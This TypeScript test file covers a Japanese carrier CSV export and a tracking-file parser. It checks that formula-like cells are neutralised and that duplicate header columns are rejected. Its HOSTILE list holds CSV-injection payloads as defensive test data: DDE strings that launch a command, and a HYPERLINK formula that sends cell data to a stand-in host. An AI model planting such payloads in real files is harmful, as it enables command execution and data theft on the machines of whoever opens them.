import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import { parseTrackingFile } from './carrier-csv.ts';
import { layoutFile, type CarrierParcel } from './carriers/layout.ts';
import { YAMATO_B2 } from './carriers/yamato-b2.ts';

const B2_COLUMNS = YAMATO_B2.columns.map((c) => c.name);
/** The B2 file with its limits set aside: these tests are about the cells (the limits have theirs). */
const UNLIMITED = { ...YAMATO_B2, columns: YAMATO_B2.columns.map((c) => ({ ...c, bytes: undefined })) };
function b2ExportFile(parcels: CarrierParcel[]): Buffer {
  const made = layoutFile(UNLIMITED, parcels);
  if (!made.ok) throw new Error('refused');
  return made.file;
}

/**
 * Issue 22 C and G, on the file itself: every cell that a spreadsheet would run as a formula is
 * neutralised after the code page 932 mapping (U+2010, U+2011 become '-'; U+2212 becomes '－'),
 * and a tracking file whose header names a column it reads twice is refused with that column.
 */

const parcel = (name: string): CarrierParcel => ({
  parcelId: 7,
  requestIds: [7],
  shipDate: '2026/11/27',
  recipient: { name, zipcode: '150-0002', address: `東京都${name}`, building: name, tel: '090-1234-5678' },
  sender: { name: 'オリパ', zipcode: '150-0002', address: '東京都渋谷区', tel: '03-0000-0000' },
  item: 'トレーディングカード',
  detail: name,
});

/** The cells of the file's second line as a spreadsheet reads them (quotes undone). */
function cellsOf(file: Buffer): string[] {
  const line = iconv.decode(file, 'cp932').split('\r\n')[1]!;
  return line.slice(1, -1).split('","').map((c) => c.replace(/""/g, '"'));
}

const HOSTILE = [
  "-2+3+cmd|' /C calc'!A0",
  "\u20102+3+cmd|' /C calc'!A0",
  "\u20112+3+cmd|' /C calc'!A0",
  '\u22122+3',
  '=HYPERLINK("http://x.example/?"&A1)',
  '+1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
];

describe('carrier file cells', () => {
  it.each(HOSTILE.map((v) => [JSON.stringify(v), v]))('neutralise %s after the final mapping', (_, value) => {
    const cells = cellsOf(b2ExportFile([parcel(value)]));
    const column = (name: string) => cells[B2_COLUMNS.indexOf(name)]!;
    for (const name of ['お届け先名', 'お届け先アパートマンション名', '品名２'] as const) {
      expect(column(name).startsWith("'"), `${name}: ${column(name)}`).toBe(true);
    }
    // Not starting with one, the address keeps its text as the code page writes it.
    expect(column('お届け先住所').startsWith("'")).toBe(false);
  });

  it('leave ordinary values as they are (phone numbers, dates, Japanese text)', () => {
    const cells = cellsOf(b2ExportFile([parcel('髙橋 花子')]));
    expect(cells[B2_COLUMNS.indexOf('お届け先名')]).toBe('髙橋 花子');
    expect(cells[B2_COLUMNS.indexOf('お届け先電話番号')]).toBe('090-1234-5678');
    expect(cells[B2_COLUMNS.indexOf('出荷予定日')]).toBe('2026/11/27');
  });
});

describe('tracking file headers', () => {
  it.each([
    ['お客様管理番号,伝票番号,お客様管理番号\r\n1,400011112222,2\r\n', 'お客様管理番号', 1, 3],
    ['伝票番号,お客様管理番号,伝票番号\r\n400011112222,1,400011113333\r\n', '伝票番号', 1, 3],
  ])('refuse a column read twice, naming it and both positions (%#)', (text, name, first, second) => {
    expect(parseTrackingFile(text)).toEqual({ ok: false, line: 1, problem: 'duplicate', column: { name, first, second } });
  });

  it('still take a header with each read column once, and other columns repeated', () => {
    const parsed = parseTrackingFile('メモ,お客様管理番号,メモ,伝票番号\r\nx,12,y,400011112222\r\n');
    expect(parsed).toEqual({ ok: true, lines: [{ line: 2, requestId: '12', trackingNumber: '400011112222' }] });
  });
});
